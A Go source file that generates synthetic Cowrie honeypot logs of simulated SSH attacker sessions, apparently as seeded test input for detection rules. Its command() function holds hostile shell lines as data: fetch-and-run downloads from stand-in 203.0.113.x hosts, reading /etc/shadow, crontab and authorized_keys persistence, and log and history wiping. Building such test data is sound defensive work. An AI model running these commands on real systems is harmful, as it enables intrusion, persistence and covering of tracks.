package main

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"time"
)

// sensorLog makes a Cowrie log out of nothing but a seed: the same seed, the
// same lines. Attackers come, fail to log in, log in, type commands of which
// about half are of interest to rules, fetch a file, and go; several at a time.
type sensorLog struct {
	rng      *rand.Rand
	clock    time.Time
	open     []*visit
	sessions int
	// dull is how many of ten commands no rule cares for.
	dull int
}

// visit is one session under way.
type visit struct {
	session, address, sensor string
	port                     int
	left                     []func(*visit) map[string]any
}

// concurrentVisits is how many sessions are under way at a time.
const concurrentVisits = 40

func newSensorLog(seed uint64) *sensorLog {
	return &sensorLog{rng: rand.New(rand.NewPCG(seed, 7)), clock: time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC), dull: 5}
}

// line returns the next line, without its line end.
func (l *sensorLog) line() []byte {
	for len(l.open) < concurrentVisits {
		l.open = append(l.open, l.visit())
	}
	i := l.rng.IntN(len(l.open))
	v := l.open[i]
	event := v.left[0](v)
	if v.left = v.left[1:]; len(v.left) == 0 {
		l.open[i] = l.open[len(l.open)-1]
		l.open = l.open[:len(l.open)-1]
	}
	l.clock = l.clock.Add(time.Duration(1+l.rng.IntN(90_000)) * time.Microsecond) // no two lines at one time
	event["session"], event["src_ip"], event["sensor"], event["protocol"] = v.session, v.address, v.sensor, "ssh"
	event["timestamp"] = l.clock.Format("2006-01-02T15:04:05.000000Z")
	raw, err := json.Marshal(event)
	if err != nil {
		panic(err)
	}
	return raw
}

// visit decides what a session will be.
func (l *sensorLog) visit() *visit {
	l.sessions++
	v := &visit{
		session: fmt.Sprintf("%012x", l.sessions), sensor: fmt.Sprintf("pot-%d", l.rng.IntN(3)), port: 30000 + l.rng.IntN(30000),
		address: fmt.Sprintf("198.18.%d.%d", l.rng.IntN(4), 1+l.rng.IntN(200)),
	}
	v.says("session.connect", "src_port", v.port, "dst_ip", "192.0.2.10", "dst_port", 2222)
	v.says("client.version", "version", pick(l.rng, "SSH-2.0-Go", "SSH-2.0-libssh_0.9.6", "SSH-2.0-OpenSSH_8.9"))
	v.says("client.kex", "hassh", fmt.Sprintf("%032x", l.rng.IntN(9)), "hasshAlgorithms", "curve25519-sha256;aes128-ctr;hmac-sha2-256;none")
	for range l.rng.IntN(3) {
		v.says("login.failed", "username", pick(l.rng, "root", "admin", "oracle"), "password", fmt.Sprintf("try%06d", l.rng.IntN(1e6)))
	}
	v.says("login.success", "username", "root", "password", fmt.Sprintf("in%06d", l.rng.IntN(1e6)))
	for range l.rng.IntN(9) {
		v.says("command.input", "input", l.command())
	}
	if l.rng.IntN(4) == 0 {
		v.says("session.file_download", "url", fmt.Sprintf("http://203.0.113.%d/%s.sh", l.rng.IntN(250), v.session),
			"shasum", fmt.Sprintf("%064x", l.rng.Uint64()), "outfile", "var/lib/cowrie/downloads/x")
	}
	v.says("session.closed", "duration", float64(l.rng.IntN(9000))/100)
	return v
}

// says adds an event of name and value pairs.
func (v *visit) says(id string, members ...any) {
	v.left = append(v.left, func(*visit) map[string]any {
		event := map[string]any{"eventid": "cowrie." + id, "message": id}
		for i := 0; i < len(members); i += 2 {
			event[members[i].(string)] = members[i+1]
		}
		return event
	})
}

func (l *sensorLog) command() string {
	if l.rng.IntN(10) < l.dull {
		return pick(l.rng,
			"cd /tmp", "echo ok", "pwd", "exit", "sleep 1", "mkdir -p /tmp/w", "date", "true", "clear", "echo -n x > /tmp/y",
		)
	}
	n := l.rng.IntN(1_000_000)
	switch l.rng.IntN(8) {
	case 0:
		return fmt.Sprintf("wget http://203.0.113.%d/%d.sh -O- | sh", n%250, n)
	case 1:
		return fmt.Sprintf("cd /tmp; curl -O http://203.0.113.%d/b%d; chmod 777 b%d; ./b%d", n%250, n, n, n)
	case 2:
		return "cat /etc/shadow"
	case 3:
		return "uname -a; cat /proc/cpuinfo | grep name | wc -l"
	case 4:
		return fmt.Sprintf("(crontab -l; echo '*/5 * * * * /tmp/.x%d') | crontab -", n)
	case 5:
		return fmt.Sprintf("echo 'ssh-rsa AAAA%d me' >> ~/.ssh/authorized_keys", n)
	case 6:
		return "history -c; unset HISTFILE; rm -f /var/log/wtmp"
	default:
		return "find / -perm -4000 2>/dev/null; sudo -l"
	}
}

func pick(rng *rand.Rand, of ...string) string { return of[rng.IntN(len(of))] }
